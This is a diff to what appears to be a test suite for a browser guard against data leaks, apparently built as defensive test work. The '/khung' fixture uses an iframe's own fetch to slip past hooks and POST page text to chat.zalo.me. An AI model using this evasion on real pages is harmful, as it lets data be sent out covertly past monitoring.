@@ -23,9 +23,7 @@ const pages: Record<string, (text: string) => string> = {
   '/khung': (text) => `<script>
     const frame = document.createElement('iframe');
     document.documentElement.append(frame);
-    const { fetch: kept } = frame.contentWindow;
-    frame.remove();
-    kept('https://chat.zalo.me/nhan', { method: 'POST', body: ${JSON.stringify(text)} }).catch(() => {});
+    frame.contentWindow.fetch('https://chat.zalo.me/nhan', { method: 'POST', body: ${JSON.stringify(text)} }).catch(() => {});
     document.title = 'done';
   </script>`,
   '/dia-chi': (text) => `<script>
@@ -66,7 +64,7 @@ describe('a guard that nothing has woken', () => {
 
   it.each([
     ['a style that the first script adds', '/kieu'],
-    ['a function of a frame that the first script has taken out again', '/khung'],
+    ['a function of a frame that the first script makes', '/khung'],
     ['an address that the first script goes to', '/dia-chi'],
   ])('lets nothing marked go by %s', async (_, path) => {
     const before = server.received.length;
